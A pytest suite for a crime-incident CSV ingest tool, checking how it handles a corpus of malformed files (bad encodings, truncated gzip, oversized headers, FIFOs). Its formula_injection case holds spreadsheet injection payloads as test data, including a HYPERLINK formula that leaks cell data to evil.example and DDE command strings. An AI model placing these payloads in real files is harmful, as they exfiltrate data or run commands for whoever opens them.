"""The bad-input corpus (tests/bad_input/, described in EXPECTED.md): one test per file, exact outcome.

Each case ingests one file with tests/bad_input/mapping.toml through ``ilp.cli.main`` into a private copy
of an empty real warehouse and checks the exit status, the counts, every reject's line, field and reason,
the stored values, and, when the batch must fail, that the message names the file and the problem, has
no traceback, and that CURRENT and the snapshot files are exactly as before.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import gzip
import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import duckdb
import pytest

from ilp.warehouse import connect_read_only

BAD_INPUT = Path(__file__).resolve().parent / "bad_input"
MAPPING = BAD_INPUT / "mapping.toml"
REPO = Path(__file__).resolve().parents[1]


def ts(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text)


OK = {"location_status": "ok"}
UNPARSEABLE = "unparseable date"


@dataclass(frozen=True)
class Loads:
    """The batch loads (exit 0) with these counts: (rows_read, loaded, updated, unchanged, rejected)."""

    counts: tuple[int, int, int, int, int]
    rejects: tuple[tuple[int, str | None, str], ...] = ()  # (line, field, reason substring), in line order
    incidents: dict[str, dict] = field(default_factory=dict)  # source_id -> expected column values
    missing_location: int = 0
    unmapped_codes: int = 0
    mapping: str = "mapping.toml"


@dataclass(frozen=True)
class Fails:
    """The batch fails (exit 1, one message naming ``names``, nothing written)."""

    message: tuple[str, ...]
    names: str | None = None  # the file the message must name (default: the data file)
    mapping: str = "mapping.toml"
    data_file: str | None = None  # the data file when the case's key is not itself one (a mapping)


GOOD_INCIDENTS = {
    "1001": {
        "occurred_at": ts("2017-01-01 00:01"),
        "offense_code": "0486",
        "offense_category": "violence_without_injury",
        "location_status": "ok",
        "latitude": 41.8781,
        "longitude": -87.6298,
        "location_text": "001XX N STATE ST",
        "arrest": False,
        "clearance_status": "open",
        "occurred_precision": "exact",
    },
    "1002": {
        "occurred_at": ts("2017-01-02 13:30"),
        "offense_code": "0820",
        "offense_category": "theft_other",
        "location_status": "ok",
        "latitude": 41.8819,
        "longitude": -87.6340,
        "location_text": "002XX W MADISON ST",
        "arrest": True,
        "clearance_status": "cleared_arrest",
    },
    "1003": {
        "occurred_at": ts("2017-01-03 23:15"),
        "offense_code": "0560",
        "location_status": "ok",
        "latitude": 41.8770,
        "longitude": -87.6290,
        "location_text": "003XX S DEARBORN ST",
    },
}
NO_LOCATION = {"latitude": None, "longitude": None}

CASES: dict[str, Loads | Fails] = {
    "good.csv": Loads((3, 3, 0, 0, 0), incidents=GOOD_INCIDENTS),
    "empty.csv": Fails(("the file is empty (0 bytes)",)),
    "blank_header.csv": Fails(("no header row",)),
    "header_only.csv": Loads((0, 0, 0, 0, 0)),
    "missing_column.csv": Fails(("missing required column 'IUCR'", "mapping.toml", "Columns found: ID, Date, Block")),
    "semicolons.csv": Fails(("missing required columns", "is the delimiter right?", "The mapping says ','")),
    "not_gzip.csv.gz": Fails(("cannot be read (Not a gzipped file",)),
    "mapping_typo.toml": Fails(
        ("unknown key in [file] 'delimeter'", "Did you mean 'delimiter'?"),
        names="mapping_typo.toml",
        mapping="mapping_typo.toml",
        data_file="good.csv",
    ),
    "latin1_byte.csv": Loads(
        (3, 2, 0, 0, 1),
        rejects=((3, "Block", "unreadable line: bytes that are not valid utf-8 (set [file] encoding"),),
        incidents={"1001": OK, "1003": OK},
    ),
    "mixed_date_formats.csv": Loads(
        (5, 2, 0, 0, 3),
        rejects=(
            (3, "Date", f"{UNPARSEABLE} 2017-01-02 13:30:00 (expected %m/%d/%Y %I:%M:%S %p)"),
            (4, "Date", f"{UNPARSEABLE} 2017-01-03T23:15:00"),
            (5, "Date", f"{UNPARSEABLE} 2017-01-04 "),
        ),
        incidents={"1001": {"occurred_at": ts("2017-01-01 00:01")}, "1005": {"occurred_at": ts("2017-01-05 09:00")}},
    ),
    "unparseable_date.csv": Loads(
        (7, 1, 0, 0, 6),
        rejects=(
            (2, "Date", f"{UNPARSEABLE} not a date"),
            (3, "Date", "required date is empty"),
            (4, "Date", f"{UNPARSEABLE} 02/30/2017 11:15:00 PM"),
            (5, "Date", "date 1999-01-04 23:15:00 outside the valid range 2001-01-01 .. 2025-12-31"),
            (6, "Date", "date 2099-01-05 23:15:00 outside the valid range 2001-01-01 .. 2025-12-31"),
            (8, "Date", f"{UNPARSEABLE} 13/45/2017 10:00:00 AM"),
        ),
        incidents={"1006": {"occurred_at": ts("2017-01-06 23:15")}},
    ),
    "duplicate_ids.csv": Loads(
        (4, 2, 0, 0, 2),
        rejects=(
            (2, "ID", "duplicate id 1001 in this batch: superseded by duplicate_ids.csv line 5"),
            (4, "ID", "duplicate id 1001 in this batch: superseded by duplicate_ids.csv line 5"),
        ),
        # the last row of an id wins
        incidents={"1001": {"occurred_at": ts("2017-01-01 00:05"), "offense_code": "0486", "arrest": True}, "1002": OK},
    ),
    "missing_id.csv": Loads(
        (3, 1, 0, 0, 2),
        rejects=((2, "ID", "required id is empty"), (3, "ID", "required id is empty")),
        incidents={"1003": OK},
    ),
    "unknown_offence_code.csv": Loads(
        (4, 3, 0, 0, 1),
        rejects=((4, "IUCR", "required offence code is empty"),),
        incidents={
            "1001": {"offense_code": "9999", "offense_category": "unmapped", "offense_description": "MYSTERY"},
            "1002": {"offense_code": "ZZ99", "offense_category": "unmapped"},
            "1004": {"offense_code": "0486", "offense_category": "violence_without_injury"},  # 486 padded
        },
        unmapped_codes=2,
    ),
    "zero_coords.csv": Loads(
        (3, 3, 0, 0, 0),
        incidents={
            "1001": {"location_status": "zero", **NO_LOCATION},
            "1002": {"location_status": "zero", **NO_LOCATION},
            "1003": {"location_status": "ok", "latitude": 41.8770, "longitude": -87.6290},
        },
        missing_location=2,
    ),
    "out_of_bbox.csv": Loads(
        (4, 4, 0, 0, 0),
        incidents={
            "1001": {"location_status": "out_of_bounds", **NO_LOCATION},
            "1002": {"location_status": "out_of_bounds", **NO_LOCATION},
            "1003": {"location_status": "out_of_bounds", **NO_LOCATION},
            "1004": {"location_status": "ok", "latitude": 41.8770, "longitude": -87.6290},
        },
        missing_location=3,
    ),
    "missing_coords.csv": Loads(
        (4, 4, 0, 0, 0),
        incidents={
            "1001": {"location_status": "missing", **NO_LOCATION},
            "1002": {"location_status": "missing", **NO_LOCATION},
            "1003": {"location_status": "unparseable", **NO_LOCATION},
            "1004": {"location_status": "unparseable", **NO_LOCATION},
        },
        missing_location=4,
    ),
    "truncated_last_line.csv": Loads(
        (2, 1, 0, 0, 1),
        rejects=((3, "IUCR", "unreadable line: too few fields (a truncated or broken line?)"),),
        incidents={"1001": OK},
    ),
    "truncated_in_quote.csv": Loads(
        (2, 1, 0, 0, 1),
        rejects=((3, "Date", "unreadable line: a quote that is never closed"),),
        incidents={"1001": OK},
    ),
    "quoted_delimiter.csv": Loads(
        (4, 3, 0, 0, 1),
        rejects=((5, None, "unreadable line: too many fields (an unquoted delimiter inside a value?)"),),
        incidents={
            "1001": OK,
            "1002": {"location_text": "002XX W MADISON ST, REAR", "location_status": "ok"},
            "1003": {"location_text": '003XX S "THE LOOP" ST', "location_status": "ok"},
        },
    ),
    "formula_injection.csv": Loads(
        (9, 4, 0, 0, 5),
        rejects=(
            (6, "Date", f"{UNPARSEABLE} =NOW()"),
            (7, "IUCR", "too few fields"),
            (8, "IUCR", "too few fields"),
            (9, "IUCR", "too few fields"),
            (10, "IUCR", "too few fields"),
        ),
        # stored exactly as it came: neutralising is the exports' job, not the warehouse's
        incidents={
            "1001": {"location_text": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'},
            "1002": {"location_text": "+cmd|' /C calc'!A0"},
            "1003": {"location_text": "-2+3", "offense_description": "@SUM(1+1)*cmd|' /C calc'!A0"},
            "@SUM(A1:A9)": {"location_text": "004XX S DEARBORN ST"},
        },
    ),
    # several problems in one file: CSV-level and validation rejects interleaved keep their true line numbers
    "many_problems.csv": Loads(
        (8, 2, 0, 0, 6),
        rejects=(
            (2, "ID", "duplicate id 1001 in this batch: superseded by many_problems.csv line 9"),
            (3, None, "too many fields"),
            (4, "Date", f"{UNPARSEABLE} not a date"),
            (5, "Block", "not valid utf-8"),
            (7, "ID", "required id is empty"),
            (8, "Primary Type", "too few fields"),
        ),
        incidents={
            "1001": {"occurred_at": ts("2017-01-08 23:15"), "location_text": "008XX S DEARBORN ST"},
            "1005": {"location_status": "zero", **NO_LOCATION},
        },
        missing_location=1,
    ),
    "utf16_as_utf8.csv": Fails(("looks like UTF-16 text", 'set [file] encoding = "utf-16"')),
    "bom.csv": Loads((3, 3, 0, 0, 0), incidents=GOOD_INCIDENTS),
    "crlf.csv": Loads((3, 3, 0, 0, 0), incidents=GOOD_INCIDENTS),
    "trailing_blank_lines.csv": Loads((3, 3, 0, 0, 0), incidents=GOOD_INCIDENTS),
    "gzipped.csv.gz": Loads((3, 3, 0, 0, 0), incidents=GOOD_INCIDENTS),
    # Line numbers after a multi-line record are the known limitation (see the xfail test below); the
    # counts, field and reason are exact.
    "multiline_field.csv": Loads(
        (2, 1, 0, 0, 1),
        rejects=((None, "Date", f"{UNPARSEABLE} not a date"),),
        incidents={"1001": {"location_text": "001XX N STATE ST\nREAR ENTRANCE", "location_status": "ok"}},
    ),
}

# Cases made at test time (huge or binary-broken files that should not sit in the repository).
GENERATED: dict[str, Loads | Fails] = {
    "huge_field.csv": Loads(
        (3, 2, 0, 0, 1),
        rejects=((3, "Block", "field is over the limit of 10000 characters ([validity] max_field_length)"),),
        incidents={"1001": OK, "1003": OK},
    ),
    "truncated_gzip.csv.gz": Fails(("cannot be read as CSV with this mapping", "Unexpected end of GZIP stream")),
    "a_directory.csv": Fails(("cannot be read", "Is a directory")),
    "does_not_exist.csv": Fails(("file not found",)),
    "two_million_columns.csv": Fails(("the header (line 1) has no line end within its first 1 MiB",)),
    "no_line_break_50mb.csv": Fails(("has no line end within its first 1 MiB",)),
    "five_thousand_columns.csv": Fails(("the header has 5,000 columns, more than 4,096", "is the delimiter right?")),
    "link_to_dev_zero.csv": Fails(("it is a character device (a link to /dev/zero), not a regular file",)),
    "a_fifo.csv": Fails(("it is a named pipe, not a regular file",)),
}

HEADER = "ID,Date,Block,IUCR,Primary Type,Arrest,Latitude,Longitude"


def _make(name: str, folder: Path) -> Path:
    path = folder / name
    good = (BAD_INPUT / "good.csv").read_text(encoding="utf-8").splitlines()
    if name == "huge_field.csv":
        big = "X" * (1 << 20)
        rows = [HEADER, good[1], f"1002,01/02/2017 01:30:00 PM,{big},0820,THEFT,true,41.8819,-87.6340", good[3]]
        path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    elif name == "truncated_gzip.csv.gz":
        rows = [HEADER] + [
            f"{5000 + i},01/01/2017 12:01:00 AM,{i:03d}XX N STATE ST,0486,BATTERY,false,41.8781,-87.6298"
            for i in range(20_000)
        ]
        data = gzip.compress(("\n".join(rows) + "\n").encode(), mtime=0)
        path.write_bytes(data[: len(data) // 2])
    elif name == "a_directory.csv":
        path.mkdir()
    elif name == "does_not_exist.csv":
        pass
    elif name == "two_million_columns.csv":  # took over 600 s and 4.9 GB before it was refused at the header
        path.write_text(",".join(f"c{i}" for i in range(2_000_000)) + "\n1\n", encoding="utf-8")
    elif name == "no_line_break_50mb.csv":
        path.write_bytes(b"x" * (50 << 20))
    elif name == "five_thousand_columns.csv":
        path.write_text(HEADER + "," + ",".join(f"extra{i}" for i in range(4992)) + "\n", encoding="utf-8")
    elif name == "link_to_dev_zero.csv":  # hung hashing an endless stream before
        path.symlink_to("/dev/zero")
    elif name == "a_fifo.csv":
        os.mkfifo(path)
    else:
        raise AssertionError(name)
    return path


# ------------------------------------------------------------------------------------------ helpers
def incidents(directory: Path) -> dict[str, dict]:
    from ilp.warehouse import Warehouse

    with contextlib.closing(Warehouse(directory).connect()) as con:
        frame = con.execute("SELECT * FROM incidents").df()
    return {row["source_id"]: row for row in frame.to_dict(orient="records")}


def _same(actual, expected) -> bool:
    if expected is None:
        return actual is None or actual != actual  # None or NaN
    if isinstance(expected, float):
        return actual == pytest.approx(expected, abs=1e-9)
    if isinstance(expected, dt.datetime):
        return actual.to_pydatetime() == expected if hasattr(actual, "to_pydatetime") else actual == expected
    return actual == expected


def check_loads(
    case: Loads, name: str, data_file: Path, code: int, out: str, err: str, warehouse, before, folder_state, run_cli
):
    assert code == 0, err
    assert "Traceback" not in err
    result = json.loads(out)
    for key in ("rows_read", "loaded", "updated", "unchanged", "rejected", "snapshot"):
        assert key in result, key
    counts = tuple(result[k] for k in ("rows_read", "loaded", "updated", "unchanged", "rejected"))
    assert counts == case.counts
    assert counts[1] + counts[2] + counts[3] + counts[4] == counts[0]
    assert result["missing_location"] == case.missing_location
    assert result["unmapped_codes"] == case.unmapped_codes

    # one new snapshot, and CURRENT names it
    after = folder_state(warehouse.directory)
    new_files = sorted(set(after) - set(before))
    assert new_files == [f"{result['snapshot']}.duckdb"]
    assert after["CURRENT"] == f"{result['snapshot']}.duckdb\n".encode()

    # rejects: file, line, field, reason and a raw row for each
    code, out, err = run_cli("rejects", "--json", "--ingest", result["ingest_id"], warehouse=warehouse)
    assert code == 0, err
    rejects = json.loads(out)
    assert len(rejects) == len(case.rejects) == result["rejected"]
    for got, (line, field_name, reason) in zip(rejects, case.rejects, strict=True):
        assert Path(got["file"]).name == data_file.name
        if line is not None:
            assert got["line_number"] == line, got
        assert got["field"] == field_name, got
        assert reason in got["reason"], got
        assert got["raw_row"], f"reject without its raw row: {got}"

    stored = incidents(warehouse.directory)
    assert len(stored) == case.counts[1]
    for source_id, expected in case.incidents.items():
        assert source_id in stored, f"{source_id} not loaded; loaded: {sorted(stored)}"
        row = stored[source_id]
        for column, value in expected.items():
            assert _same(row[column], value), f"{source_id}.{column}: {row[column]!r} != {value!r}"
        assert row["location_status"] in ("ok", "missing", "zero", "out_of_bounds", "unparseable")
        if row["location_status"] != "ok":
            assert _same(row["latitude"], None) and _same(row["longitude"], None)
    for row in stored.values():  # no stray carriage returns or byte-order marks anywhere
        for value in row.values():
            if isinstance(value, str):
                assert "\r" not in value and "\ufeff" not in value, row


def check_fails(case: Fails, named: str, code: int, out: str, err: str, warehouse, before, folder_state):
    assert code == 1
    assert out == ""
    assert "Traceback" not in err
    assert "\x00" not in err  # a UTF-16 file read as UTF-8 once put raw NUL bytes in the message
    lines = err.strip().splitlines()
    assert len(lines) == 1, f"expected one message line, got: {err!r}"
    message = lines[0]
    assert message.startswith("ilp ingest: error: ")
    assert named in message
    for part in case.message:
        assert part in message, f"{part!r} not in {message!r}"
    # nothing written: CURRENT byte-identical, no new snapshot, no leftovers
    assert folder_state(warehouse.directory) == before


# ------------------------------------------------------------------------------------------ the corpus
def test_every_corpus_file_has_an_expectation():
    on_disk = {p.name for p in BAD_INPUT.iterdir() if p.suffix != ".md" and p.name != "mapping.toml"}
    assert on_disk == set(CASES), (
        f"files without expectations: {on_disk - set(CASES)}; missing files: {set(CASES) - on_disk}"
    )
    documented = (BAD_INPUT / "EXPECTED.md").read_text(encoding="utf-8")
    for name in [*CASES, *GENERATED]:
        assert f"`{name}`" in documented, f"{name} is not in EXPECTED.md"
    assert len(CASES) >= 15


@pytest.mark.parametrize("name", sorted(CASES))
def test_corpus_file(name, real_warehouse, run_cli, folder_state):
    case = CASES[name]
    data_name = case.data_file if isinstance(case, Fails) and case.data_file else name
    data_file = BAD_INPUT / data_name
    before = folder_state(real_warehouse.directory)
    code, out, err = run_cli(
        "ingest", "--mapping", BAD_INPUT / case.mapping, "--json", data_file, warehouse=real_warehouse
    )
    if isinstance(case, Fails):
        check_fails(case, case.names or data_name, code, out, err, real_warehouse, before, folder_state)
    else:
        check_loads(case, name, data_file, code, out, err, real_warehouse, before, folder_state, run_cli)


@pytest.mark.parametrize("name", sorted(GENERATED))
def test_generated_bad_file(name, real_warehouse, run_cli, folder_state, tmp_path):
    case = GENERATED[name]
    data_file = _make(name, tmp_path)
    before = folder_state(real_warehouse.directory)
    code, out, err = run_cli("ingest", "--mapping", MAPPING, "--json", data_file, warehouse=real_warehouse)
    if isinstance(case, Fails):
        check_fails(case, name, code, out, err, real_warehouse, before, folder_state)
    else:
        check_loads(case, name, data_file, code, out, err, real_warehouse, before, folder_state, run_cli)


# ------------------------------------------------------------------------------------------ around the corpus
def test_one_bad_file_fails_the_whole_batch(real_warehouse, run_cli, folder_state):
    before = folder_state(real_warehouse.directory)
    code, out, err = run_cli(
        "ingest",
        "--mapping",
        MAPPING,
        BAD_INPUT / "good.csv",
        BAD_INPUT / "missing_column.csv",
        warehouse=real_warehouse,
    )
    assert code == 1 and out == ""
    assert "missing_column.csv" in err and "'IUCR'" in err and "Traceback" not in err
    assert folder_state(real_warehouse.directory) == before
    assert incidents(real_warehouse.directory) == {}  # good.csv was not loaded either


def test_failed_first_ingest_leaves_no_warehouse_behind(tmp_path, run_cli):
    directory = tmp_path / "new_warehouse"
    code, _, err = run_cli("ingest", "--mapping", MAPPING, BAD_INPUT / "semicolons.csv", warehouse=directory)
    assert code == 1 and "semicolons.csv" in err
    leftovers = sorted(p.name for p in directory.iterdir()) if directory.exists() else []
    assert leftovers == []


def test_latin1_file_loads_whole_with_a_latin1_mapping(real_warehouse, run_cli, tmp_path):
    mapping = tmp_path / "latin1.toml"
    mapping.write_text(
        MAPPING.read_text(encoding="utf-8").replace('encoding = "utf-8"', 'encoding = "latin-1"'), encoding="utf-8"
    )
    code, out, err = run_cli(
        "ingest", "--mapping", mapping, "--json", BAD_INPUT / "latin1_byte.csv", warehouse=real_warehouse
    )
    assert code == 0, err
    assert json.loads(out)["loaded"] == 3
    assert incidents(real_warehouse.directory)["1002"]["location_text"] == "002XX W CAF\u00e9 ST"


def test_line_number_after_a_multiline_field(real_warehouse, run_cli):
    code, out, err = run_cli(
        "ingest", "--mapping", MAPPING, "--json", BAD_INPUT / "multiline_field.csv", warehouse=real_warehouse
    )
    assert code == 0, err
    _, out, _ = run_cli("rejects", "--json", warehouse=real_warehouse)
    assert [r["line_number"] for r in json.loads(out)] == [4]


def test_line_numbers_count_every_embedded_newline_a_broken_line_and_a_duplicate(real_warehouse, run_cli, tmp_path):
    """Lines as an editor shows them, in a file where two records span 2 and 3 lines, a line the CSV reader
    rejects sits between them, and a later duplicate id supersedes an earlier row."""
    lines = [
        "ID,Date,Block,IUCR,Primary Type,Arrest,Latitude,Longitude",  # 1
        '2001,01/01/2017 12:01:00 AM,"001XX N STATE ST',  # 2
        'REAR",0486,BATTERY,false,41.8781,-87.6298',  # 3
        "2002,not a date,002XX W MADISON ST,0820,THEFT,true,41.8819,-87.6340",  # 4
        "2003,01/02/2017 10:00:00 AM,003XX,0820,THEFT,true,41.88,-87.63,EXTRA,FIELDS",  # 5: too many fields
        '2004,01/03/2017 10:00:00 AM,"004XX',  # 6
        "W",  # 7
        'LAKE ST",0820,THEFT,true,41.885,-87.63',  # 8
        "2005,,005XX W LAKE ST,0820,THEFT,true,41.885,-87.63",  # 9: no date
        "2001,01/04/2017 10:00:00 AM,001XX N STATE ST,0486,BATTERY,false,41.8781,-87.6298",  # 10: id again
    ]
    path = tmp_path / "multiline_mix.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out, err = run_cli("ingest", "--mapping", MAPPING, "--json", path, warehouse=real_warehouse)
    assert code == 0, err
    result = json.loads(out)
    assert (result["rows_read"], result["loaded"], result["rejected"]) == (6, 2, 4)
    _, out, _ = run_cli("rejects", "--json", warehouse=real_warehouse)
    rejects = {r["line_number"]: r for r in json.loads(out)}
    assert sorted(rejects) == [2, 4, 5, 9]
    assert rejects[2]["reason"].endswith(f"superseded by {path.name} line 10")
    assert rejects[4]["field"] == "Date" and rejects[9]["field"] == "Date"
    assert incidents(real_warehouse.directory)["2004"]["location_text"] == "004XX\nW\nLAKE ST"


def test_line_numbers_count_blank_lines(real_warehouse, run_cli, tmp_path):
    path = tmp_path / "blank_lines.csv"
    path.write_text(
        "\n".join(
            [
                "ID,Date,Block,IUCR,Primary Type,Arrest,Latitude,Longitude",  # 1
                "3001,01/01/2017 12:01:00 AM,001XX N STATE ST,0486,BATTERY,false,41.8781,-87.6298",  # 2
                "",  # 3
                "3002,not a date,002XX W MADISON ST,0820,THEFT,true,41.8819,-87.6340",  # 4
                "",  # 5
                "3003,01/02/2017 10:00:00 AM,003XX,0820,THEFT,true,41.88,-87.63,EXTRA",  # 6: too many fields
                "3004,,004XX W LAKE ST,0820,THEFT,true,41.885,-87.63",  # 7: no date
            ]
        )
        + "\n",
        encoding="utf-8",
    )
    code, out, err = run_cli("ingest", "--mapping", MAPPING, "--json", path, warehouse=real_warehouse)
    assert code == 0, err
    _, out, _ = run_cli("rejects", "--json", warehouse=real_warehouse)
    rejects = json.loads(out)
    assert [(r["line_number"], r["field"]) for r in rejects] == [(4, "Date"), (6, None), (7, "Date")]
    assert rejects[1]["raw_row"] == "3003,01/02/2017 10:00:00 AM,003XX,0820,THEFT,true,41.88,-87.63,EXTRA"


def test_rejects_are_listed_in_text_with_file_line_field_reason_and_raw_row(real_warehouse, run_cli):
    run_cli("ingest", "--mapping", MAPPING, BAD_INPUT / "unparseable_date.csv", warehouse=real_warehouse)
    code, out, err = run_cli("rejects", warehouse=real_warehouse)
    assert code == 0, err
    assert "unparseable_date.csv:2  field Date: unparseable date not a date" in out
    # the raw row is the line as it is in the file (it was a JSON of the mapped columns before issue 9)
    assert "    raw: 1001,not a date,001XX N STATE ST,0486,BATTERY,false,41.8781,-87.6298\n" in out
    assert out.count("unparseable_date.csv:") == 6


def test_a_whole_line_error_is_listed_without_a_field(real_warehouse, run_cli):
    run_cli("ingest", "--mapping", MAPPING, BAD_INPUT / "many_problems.csv", warehouse=real_warehouse)
    _, out, _ = run_cli("rejects", warehouse=real_warehouse)
    assert "many_problems.csv:3  field (whole line): unreadable line: too many fields" in out
    assert "field nan" not in out and "field None" not in out
    _, out, _ = run_cli("rejects", "--json", warehouse=real_warehouse)
    assert json.loads(out)[1]["field"] is None


def test_reingesting_a_file_with_rejects_changes_nothing(real_warehouse, run_cli):
    first = json.loads(
        run_cli(
            "ingest", "--mapping", MAPPING, "--json", BAD_INPUT / "formula_injection.csv", warehouse=real_warehouse
        )[1]
    )
    again = json.loads(
        run_cli(
            "ingest", "--mapping", MAPPING, "--json", BAD_INPUT / "formula_injection.csv", warehouse=real_warehouse
        )[1]
    )
    assert (first["loaded"], first["unchanged"], first["rejected"]) == (4, 0, 5)
    assert (again["rows_read"], again["loaded"], again["updated"], again["unchanged"], again["rejected"]) == (
        9,
        0,
        0,
        4,
        5,
    )


# ------------------------------------------------------------------------------------------ a real process
def _ilp(*args: object) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "ilp", *map(str, args)], capture_output=True, text=True, env=env, cwd=REPO, timeout=120
    )


def test_subprocess_bad_file_exits_1_with_one_line(tmp_path):
    done = _ilp("--warehouse", tmp_path / "w", "ingest", "--mapping", MAPPING, BAD_INPUT / "missing_column.csv")
    assert done.returncode == 1
    assert done.stdout == ""
    assert "Traceback" not in done.stderr
    assert done.stderr.strip().splitlines() == [done.stderr.strip()]
    assert "missing_column.csv" in done.stderr and "'IUCR'" in done.stderr


def test_subprocess_good_file_prints_counts(tmp_path):
    done = _ilp("--warehouse", tmp_path / "w", "ingest", "--mapping", MAPPING, BAD_INPUT / "zero_coords.csv")
    assert done.returncode == 0, done.stderr
    for label, value in (("rows read", 3), ("loaded", 3), ("updated", 0), ("unchanged", 0), ("rejected", 0)):
        assert any(
            line.split()[: len(label.split())] == label.split() and line.split()[len(label.split())] == str(value)
            for line in done.stdout.splitlines()
        ), (label, done.stdout)
    assert "without a usable location: 2" in done.stdout


def test_debug_shows_the_traceback(tmp_path):
    done = _ilp("--warehouse", tmp_path / "w", "--debug", "ingest", "--mapping", MAPPING, BAD_INPUT / "empty.csv")
    assert done.returncode != 0
    assert "Traceback" in done.stderr and "IngestError" in done.stderr and "empty.csv" in done.stderr


def test_connect_read_only_sees_stored_rows(real_warehouse, run_cli):
    """The snapshot an ingest reports is a plain DuckDB file readers can open read-only."""
    result = json.loads(
        run_cli("ingest", "--mapping", MAPPING, "--json", BAD_INPUT / "good.csv", warehouse=real_warehouse)[1]
    )
    with contextlib.closing(connect_read_only(real_warehouse.directory / f"{result['snapshot']}.duckdb")) as con:
        assert con.execute("SELECT count(*) FROM incidents").fetchone()[0] == 3
        with pytest.raises(duckdb.Error):
            con.execute("DELETE FROM incidents")
